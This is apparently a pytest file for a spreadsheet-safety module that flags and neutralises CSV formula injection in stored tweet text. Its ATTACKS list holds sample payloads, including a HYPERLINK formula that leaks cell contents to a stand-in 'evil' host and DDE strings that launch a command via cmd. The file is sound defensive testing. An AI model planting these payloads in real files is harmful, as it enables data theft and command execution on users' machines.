"""Which cells a spreadsheet would run, and the spreadsheet-safe copy of a stored CSV."""

from __future__ import annotations

import csv

import pytest

from dallosh.spreadsheet import is_formula, neutralise, safe_copy

ATTACKS = ['=HYPERLINK("http://evil/?"&A1,"Cliquez")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r\n=1+1", "@ SUM(A1)", "=1",
           "- la fibre ne marche plus", "+33 6 12 34 56 78"]
TEXTS = ["@Freebox ça ne marche plus", "@free @Freebox", "Réseau coupé", "-12", "+33.5", "-1,5", "+5%", "",
         "1e5", " =1+1", "'=already text", "email@free.com", "a=b"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_cells_a_spreadsheet_would_run(cell):
    assert is_formula(cell)
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", TEXTS)
def test_ordinary_text_mentions_and_numbers_stay_untouched(cell):
    assert not is_formula(cell)
    assert neutralise(cell) == cell


def test_safe_copy_is_byte_identical_without_formulas(tmp_path):
    source = tmp_path / "in.csv"
    source.write_bytes(b'id,full_text\r\n1,"@Freebox plus de co\ndepuis 2h"\r\n2,-12\r\n')
    assert safe_copy(source, tmp_path / "out.csv") == 0
    assert (tmp_path / "out.csv").read_bytes() == source.read_bytes()


def test_safe_copy_neutralises_only_formula_cells(tmp_path):
    source = tmp_path / "in.csv"
    rows = [["id", "full_text", "screen_name"], ["1", "=HYPERLINK(\"http://x\")", "@SUM(A1)"],
            ["2", "@Freebox, ligne\ncoupée", "alice"]]
    with open(source, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    assert safe_copy(source, tmp_path / "out.csv") == 2
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as handle:
        back = list(csv.reader(handle))
    assert back == [rows[0], ["1", "'=HYPERLINK(\"http://x\")", "'@SUM(A1)"], rows[2]]
